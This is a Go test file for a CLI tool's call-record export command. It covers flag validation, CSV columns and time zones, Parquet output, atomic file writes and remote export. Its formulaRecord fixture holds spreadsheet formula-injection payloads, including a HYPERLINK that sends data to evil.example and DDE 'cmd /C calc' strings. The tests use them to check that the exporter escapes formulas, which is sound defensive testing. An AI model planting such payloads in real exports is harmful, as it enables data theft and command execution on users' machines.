package main

import (
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/cdrhub/cdrhub/internal/export"
	"github.com/cdrhub/cdrhub/internal/faultproxy"
	"github.com/google/go-cmp/cmp"
	"github.com/parquet-go/parquet-go"
)

// csvHeader is the header line of a CSV export.
var csvHeader = export.Header()

func TestExportErrors(t *testing.T) {
	var tags101 []string
	for i := range 101 {
		tags101 = append(tags101, fmt.Sprintf("t%d", i))
	}
	dir := t.TempDir()
	cfg := writeConfig(t, dir)
	out := filepath.Join(dir, "out.csv")
	tests := []struct {
		name    string
		args    []string
		wantErr string
	}{
		{"no database yet", []string{"--config", cfg}, "no database at " + filepath.Join(dir, "data", "cdrhub.db")},
		{"bad filter", []string{"--config", cfg, "--channel", "fax"}, `export: channel: unknown value "fax"`},
		{"bad time", []string{"--config", cfg, "--from", "yesterday"}, "export: from: want Unix milliseconds or RFC 3339"},
		{"time before 2000", []string{"--config", cfg, "--from", "1969-12-31T23:00:00Z"}, "export: from: must be from 2000-01-01T00:00:00Z"},
		{"epoch", []string{"--config", cfg, "--to", "1970-01-01T00:00:00Z"}, "export: to: must be from 2000-01-01T00:00:00Z"},
		{"long number", []string{"--config", cfg, "--phone", strings.Repeat("1", 33)}, "export: phone: a value is longer than 32 characters"},
		{"long list", []string{"--config", cfg, "--tag", strings.Join(tags101, ",")}, "export: tag: at most 100 distinct values"},
		{"bad format", []string{"--config", cfg, "--format", "xml"}, `export: format "xml": want ndjson, csv or parquet`},
		{"columns of ndjson", []string{"--config", cfg, "--columns", "id"}, "export: columns: NDJSON writes every field"},
		{"unknown column", []string{"--config", cfg, "--format", "csv", "--columns", "id,colour"}, `no CSV column "colour"`},
		{"unknown zone", []string{"--config", cfg, "--format", "csv", "--tz", "Mars/Olympus"}, "export: --tz Mars/Olympus: not an IANA time zone"},
		{"zone of parquet", []string{"--config", cfg, "--format", "parquet", "--tz", "UTC"}, "export: tz: Parquet times are UTC instants"},
		{"gzip of parquet", []string{"--config", cfg, "--format", "parquet", "--gzip"}, "export: --gzip: parquet is compressed already"},
		{"raw in csv", []string{"--config", cfg, "--format", "csv", "--include-raw"}, "export: raw: CSV has no raw column"},
		{"bad csv-formulas", []string{"--config", cfg, "--format", "csv", "--csv-formulas", "strip"}, "export: --csv-formulas strip: want escape or keep"},
		{"argument", []string{"--config", cfg, "voice"}, `export: unexpected argument "voice"`},
		{"config and server", []string{"--config", cfg, "--server", "http://127.0.0.1:1", "--token", "t"}, "--config is for the local database"},
		{"server down", []string{"--server", "http://127.0.0.1:1", "--token", "t", "--output", out}, "connection refused"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, stderr, err := runCLI(t, nil, append([]string{"export"}, tt.args...)...)
			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
				t.Errorf("error %v, want %q\n%s", err, tt.wantErr, stderr)
			}
		})
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 { // cdrhub.yaml
		t.Errorf("failed exports left files: %v", entries)
	}
}

func TestExportFlagsMirrorTheAPI(t *testing.T) {
	dir := t.TempDir()
	cfg := writeConfig(t, dir)
	writeRecords(t, dir, "r.ndjson", "f", 30, false)
	if _, stderr, err := runCLI(t, nil, "import", "--config", cfg, filepath.Join(dir, "r.ndjson")); err != nil {
		t.Fatalf("%v\n%s", err, stderr)
	}
	tests := []struct {
		args []string
		want int
	}{
		{nil, 30},
		{[]string{"--channel", "voice", "--channel", "chat"}, 20},
		{[]string{"--phone", "13900000003"}, 1},
		{[]string{"--phone-contains", "0000"}, 10},
		{[]string{"--agent", "agent-0"}, 2},     // i = 0, 28
		{[]string{"--csat-min", "4"}, 6},        // i % 5 == 0
		{[]string{"--has-recording=false"}, 30}, // none has one
		{[]string{"--has-recording"}, 0},        // --has-recording is =true
		{[]string{"--disposition", "no_answer"}, 10},
		{[]string{"--from", "1700000010000", "--to", "2023-11-14T22:13:40Z", "--direction", "unknown"}, 10},
	}
	for _, tt := range tests {
		out, stderr, err := runCLI(t, nil, append([]string{"export", "--config", cfg}, tt.args...)...)
		if n := len(exportedNDJSON(t, out)); err != nil || n != tt.want {
			t.Errorf("%q: %d records, %v, want %d\n%s", tt.args, n, err, tt.want, stderr)
		}
	}
}

// TestExportColumnsAndZone: --columns chooses and orders the CSV columns
// or the Parquet fields, --tz writes CSV times in a zone, and --format
// parquet writes a file parquet-go reads back.
func TestExportColumnsAndZone(t *testing.T) {
	dir := t.TempDir()
	cfg := writeConfig(t, dir)
	writeRecords(t, dir, "r.ndjson", "z", 30, false)
	if _, stderr, err := runCLI(t, nil, "import", "--config", cfg, filepath.Join(dir, "r.ndjson")); err != nil {
		t.Fatalf("%v\n%s", err, stderr)
	}
	tests := []struct {
		name string
		args []string
		want [][]string // header, then the first two rows
	}{
		{"columns", []string{"--columns", "agent_names,source_id,start_at"},
			[][]string{{"agent_names", "source_id", "start_at"}, {`Agent, "0"`, "z-0", "2023-11-14T22:13:20.000Z"}, {"", "z-1", "2023-11-14T22:13:21.000Z"}}},
		{"zone", []string{"--columns", "source_id,start_at,answer_at,end_at", "--tz", "Asia/Kathmandu"},
			[][]string{{"source_id", "start_at", "answer_at", "end_at"},
				{"z-0", "2023-11-15T03:58:20.000+05:45", "2023-11-15T03:58:25.000+05:45", "2023-11-15T03:59:25.000+05:45"},
				{"z-1", "2023-11-15T03:58:21.000+05:45", "", ""}}},
		{"zone west of UTC", []string{"--columns", "start_at", "--tz", "America/New_York"},
			[][]string{{"start_at"}, {"2023-11-14T17:13:20.000-05:00"}, {"2023-11-14T17:13:21.000-05:00"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args := append([]string{"export", "--config", cfg, "--format", "csv", "--order", "asc"}, tt.args...)
			out, stderr, err := runCLI(t, nil, args...)
			if err != nil {
				t.Fatalf("%v\n%s", err, stderr)
			}
			rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
			if err != nil || len(rows) != 31 {
				t.Fatalf("%d rows, %v\n%s", len(rows), err, out)
			}
			if diff := cmp.Diff(tt.want, rows[:3]); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}

	t.Run("parquet", func(t *testing.T) {
		file := filepath.Join(dir, "out.parquet")
		if _, stderr, err := runCLI(t, nil, "export", "--config", cfg, "--format", "parquet", "--order", "asc",
			"--columns", "start_at,agents,source_id", "--output", file); err != nil {
			t.Fatalf("%v\n%s", err, stderr)
		}
		b, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		f, err := parquet.OpenFile(bytes.NewReader(b), int64(len(b)))
		if err != nil {
			t.Fatal(err)
		}
		var fields []string
		for _, fl := range f.Schema().Fields() {
			fields = append(fields, fl.Name())
		}
		if want := []string{"source_id", "start_at", "agents"}; !slices.Equal(fields, want) {
			t.Errorf("fields %q, want %q", fields, want)
		}
		type agent struct {
			ID   string `parquet:"id,optional"`
			Name string `parquet:"name,optional"`
		}
		type slim struct {
			SourceID string  `parquet:"source_id"`
			StartAt  int64   `parquet:"start_at,timestamp(millisecond:utc)"`
			Agents   []agent `parquet:"agents,list"`
		}
		rows, err := parquet.Read[slim](bytes.NewReader(b), int64(len(b)))
		if err != nil || len(rows) != 30 {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		want := slim{SourceID: "z-0", StartAt: 1700000000000, Agents: []agent{{ID: "agent-0", Name: `Agent, "0"`}}}
		if diff := cmp.Diff(want, rows[0]); diff != "" {
			t.Errorf("(-want +got):\n%s", diff)
		}
		if rows[1].SourceID != "z-1" || len(rows[1].Agents) != 0 {
			t.Errorf("second row %+v", rows[1])
		}
	})

	t.Run("unknown parquet field", func(t *testing.T) {
		_, _, err := runCLI(t, nil, "export", "--config", cfg, "--format", "parquet", "--columns", "id,agent_ids")
		if err == nil || !strings.Contains(err.Error(), `no Parquet column "agent_ids" (columns: id, tenant,`) {
			t.Errorf("error %v", err)
		}
	})
}

// formulaRecord holds formulas in every text column a user can fill.
const formulaRecord = `{"channel":"voice","source":"native","source_id":"=1+1","start_at":1700000000000,` +
	`"caller":{"address":"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")"},"callee":{"address":"+86 139 1234 5678"},` +
	`"agents":[{"id":"@SUM(1+1)*cmd|' /C calc'!A0","name":"-2+3+cmd|' /C calc'!A0"},{"id":"a2","name":"Li Wei"}],` +
	`"queues":[{"id":"-1","name":"\t=1"}],"disposition_raw":"+SUM(1)","country_code":"=1",` +
	`"satisfaction":{"score":3,"label":"\r=1"},"tags":["=cmd|' /C notepad'!A1","vip"],"note":"=cmd|' /C calc'!A0"}`

// formulaCells are the escaped cells of formulaRecord's row; with
// --csv-formulas keep the same cells without the leading '.
var formulaCells = map[string]string{
	"source_id":          "'=1+1",
	"caller":             `'=HYPERLINK("http://evil.example/?d="&A1,"x")`,
	"callee":             "+86 139 1234 5678",
	"agent_ids":          "'@SUM(1+1)*cmd|' /C calc'!A0;a2",
	"agent_names":        "'-2+3+cmd|' /C calc'!A0;Li Wei",
	"queue_ids":          "-1",
	"queue_names":        "'\t=1",
	"disposition_raw":    "'+SUM(1)",
	"satisfaction_label": "'\r=1",
	"tags":               "'=cmd|' /C notepad'!A1;vip",
	"country_code":       "'=1",
	"note":               "'=cmd|' /C calc'!A0",
}

// checkFormulaCSV parses a CSV export of formulaRecord.
func checkFormulaCSV(t *testing.T, what, out string, escaped bool) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%s: %d rows, %v\n%s", what, len(rows), err, out)
	}
	if diff := cmp.Diff(csvHeader, rows[0]); diff != "" {
		t.Errorf("%s: header (-want +got):\n%s", what, diff)
	}
	for i, col := range csvHeader {
		want, ok := formulaCells[col]
		if !ok {
			continue
		}
		if !escaped && strings.HasPrefix(want, "'") {
			want = want[1:]
		}
		if got := rows[1][i]; got != want {
			t.Errorf("%s: %s = %q, want %q", what, col, got, want)
		}
	}
}

// A record with formulas in its text exports with them escaped, locally and
// through a server alike, unless --csv-formulas keep.
func TestExportCSVFormulas(t *testing.T) {
	dir := t.TempDir()
	cfg := writeConfig(t, dir)
	in := filepath.Join(dir, "f.ndjson")
	if err := os.WriteFile(in, []byte(formulaRecord+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, stderr, err := runCLI(t, nil, "import", "--config", cfg, in); err != nil {
		t.Fatalf("import: %v\n%s", err, stderr)
	}
	local, stderr, err := runCLI(t, nil, "export", "--config", cfg, "--format", "csv")
	if err != nil {
		t.Fatalf("export: %v\n%s", err, stderr)
	}
	checkFormulaCSV(t, "local", local, true)
	kept, stderr, err := runCLI(t, nil, "export", "--config", cfg, "--format", "csv", "--csv-formulas", "keep")
	if err != nil {
		t.Fatalf("export: %v\n%s", err, stderr)
	}
	checkFormulaCSV(t, "local, keep", kept, false)
	file := filepath.Join(dir, "out.csv")
	if _, stderr, err := runCLI(t, nil, "export", "--config", cfg, "--format", "csv", "--csv-formulas=escape", "--output", file); err != nil {
		t.Fatalf("export: %v\n%s", err, stderr)
	}
	if b, _ := os.ReadFile(file); string(b) != local {
		t.Errorf("--output %s:\n%s\nwant\n%s", file, b, local)
	}
	// NDJSON is data, not a spreadsheet: unchanged.
	nd, _, err := runCLI(t, nil, "export", "--config", cfg)
	if recs := exportedNDJSON(t, nd); err != nil || len(recs) != 1 || recs[0].Note != "=cmd|' /C calc'!A0" {
		t.Errorf("ndjson export: %v\n%s", err, nd)
	}

	p := start(t, "--config", cfg)
	env := map[string]string{"CDRHUB_TOKEN": testToken}
	remote, stderr, err := runCLI(t, env, "export", "--server", "http://"+p.addr, "--format", "csv")
	if err != nil || remote != local {
		t.Errorf("remote export: %v\n%s\nwant the local one\n%s\n%s", err, remote, local, stderr)
	}
	remote, stderr, err = runCLI(t, env, "export", "--server", "http://"+p.addr, "--format", "csv", "--csv-formulas", "keep")
	if err != nil || remote != kept {
		t.Errorf("remote export, keep: %v\n%s\nwant the local one\n%s\n%s", err, remote, kept, stderr)
	}
}

// The output file is synced before it is renamed over the named one, and
// its directory after (on Linux); a failed sync leaves nothing behind.
func TestOutputCommitSyncs(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "out.ndjson")
	if err := os.WriteFile(path, []byte("old\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	content := strings.Repeat("a record line\n", 10000) // more than the 64 KiB buffer
	o, err := createOutput(path, nil)
	if err != nil {
		t.Fatal(err)
	}
	var calls []string
	o.syncFile = func(f *os.File) error {
		calls = append(calls, "file")
		if b, _ := os.ReadFile(f.Name()); string(b) != content {
			t.Errorf("synced %d bytes, want the whole output (%d)", len(b), len(content))
		}
		if b, _ := os.ReadFile(path); string(b) != "old\n" {
			t.Errorf("%s replaced before the sync", path)
		}
		return f.Sync()
	}
	o.syncDir = func(d string) error {
		calls = append(calls, "dir "+d)
		if b, _ := os.ReadFile(path); string(b) != content {
			t.Errorf("directory synced before the rename")
		}
		return syncDir(d)
	}
	io.WriteString(o, content)
	if err := o.commit(); err != nil {
		t.Fatal(err)
	}
	want := []string{"file"}
	if runtime.GOOS == "linux" {
		want = append(want, "dir "+dir)
	}
	if diff := cmp.Diff(want, calls); diff != "" {
		t.Errorf("sync calls (-want +got):\n%s", diff)
	}
	fi, err := os.Stat(path)
	if b, _ := os.ReadFile(path); err != nil || string(b) != content || fi.Mode().Perm() != 0o600 {
		t.Errorf("%s: %v, %d bytes, mode %v", path, err, len(b), fi.Mode())
	}

	o, err = createOutput(path, nil)
	if err != nil {
		t.Fatal(err)
	}
	o.syncFile = func(*os.File) error { return errors.New("disk gone") }
	io.WriteString(o, "new\n")
	if err := o.commit(); err == nil || err.Error() != "disk gone" {
		t.Errorf("commit: %v, want the sync's error", err)
	}
	if b, _ := os.ReadFile(path); string(b) != content {
		t.Errorf("a failed sync replaced %s", path)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
		t.Errorf("a failed sync left files: %v", entries)
	}
}

// TestExportRemoteFormats: through GET /api/v1/export a server's CSV (with
// columns and a zone), Parquet and gzipped NDJSON are byte for byte the
// local export's; an export the network cuts short fails and leaves no
// file.
func TestExportRemoteFormats(t *testing.T) {
	dir := t.TempDir()
	cfg := writeConfig(t, dir)
	p := start(t, "--config", cfg)
	server := "http://" + p.addr
	env := map[string]string{"CDRHUB_TOKEN": testToken}
	nd := writeRecords(t, dir, "calls.ndjson", "r", 3000, false)
	if _, stderr, err := runCLI(t, env, "import", "--server", server, nd); err != nil {
		t.Fatalf("import: %v\n%s", err, stderr)
	}
	for _, args := range [][]string{
		{"--format", "csv", "--columns", "source_id,start_at,caller", "--tz", "Asia/Kathmandu", "--channel", "voice"},
		{"--format", "parquet", "--order", "asc"},
		{"--format", "parquet", "--columns", "id,agents,start_at"},
		{"--gzip", "--source", "native"},
		{"--format", "csv", "--gzip"},
	} {
		remoteFile, localFile := filepath.Join(dir, "remote.out"), filepath.Join(dir, "local.out")
		if _, stderr, err := runCLI(t, env, append([]string{"export", "--server", server, "--output", remoteFile}, args...)...); err != nil {
			t.Fatalf("%q remote: %v\n%s", args, err, stderr)
		}
		if _, stderr, err := runCLI(t, nil, append([]string{"export", "--config", cfg, "--output", localFile}, args...)...); err != nil {
			t.Fatalf("%q local: %v\n%s", args, err, stderr)
		}
		remote, local := readMaybeGzip(t, remoteFile), readMaybeGzip(t, localFile)
		if len(remote) < 1000 || !bytes.Equal(remote, local) {
			t.Errorf("%q: remote (%d bytes) and local (%d bytes) differ", args, len(remote), len(local))
		}
		if slices.Contains(args, "parquet") && !bytes.HasPrefix(remote, []byte("PAR1")) {
			t.Errorf("%q: not a Parquet file", args)
		}
	}

	// A proxy that cuts the answer after 100 kB.
	px, err := faultproxy.New(server, faultproxy.Fault{Name: "cut", Action: faultproxy.Truncate(100_000)})
	if err != nil {
		t.Fatal(err)
	}
	defer px.Close()
	cut := filepath.Join(dir, "cut.ndjson")
	_, stderr, err := runCLI(t, env, "export", "--server", px.URL(), "--output", cut)
	if err == nil || !strings.Contains(err.Error(), "ended early") {
		t.Errorf("a cut export: %v\n%s", err, stderr)
	}
	if _, err := os.Stat(cut); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a cut export left %s: %v", cut, err)
	}
}

// readMaybeGzip returns a file's bytes, gunzipped when gzipped.
func readMaybeGzip(t *testing.T, path string) []byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b, []byte{0x1f, 0x8b}) {
		return b
	}
	zr, err := gzip.NewReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	out, err := io.ReadAll(zr)
	if err != nil {
		t.Fatal(err)
	}
	return out
}
